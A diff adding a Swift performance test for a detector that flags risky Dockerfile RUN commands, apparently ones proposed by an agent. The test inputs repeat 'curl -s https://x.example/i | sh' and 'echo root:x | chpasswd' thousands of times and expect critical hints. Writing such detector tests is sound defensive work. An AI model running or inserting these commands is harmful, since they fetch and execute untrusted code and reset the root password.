@@ -190,6 +190,28 @@ struct RiskHintsDockerfileRootTests {
     }
 }
 
+extension RiskHintsDockerfileRootTests {
+    /// The hints run for every listed proposal: an agent's RUN of thousands of pipeline stages
+    /// or `chpasswd`s must not make `list` quadratic (it was: every interpreter scanned every
+    /// command). Four times the stages may take at most eight times as long (quadratic: sixteen).
+    @Test("a RUN of thousands of pipeline stages is hinted in linear time")
+    func longPipelines() {
+        for stage in ["| sh ", "; echo root:x | chpasswd "] {
+            func seconds(_ count: Int) -> Double {
+                let start = ContinuousClock.now
+                let found = adding("RUN curl -s https://x.example/i " + String(repeating: stage, count: count))
+                #expect(found.contains { $0.severity == .critical })
+                let elapsed = ContinuousClock.now - start
+                return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
+            }
+            _ = seconds(500)  // warm up
+            let small = seconds(2_000)
+            let large = seconds(8_000)
+            #expect(large < 8 * small + 1, "\(stage): \(small) s for 2,000, \(large) s for 8,000")
+        }
+    }
+}
+
 extension String {
     fileprivate var withRun: String { "RUN " + self }
 }
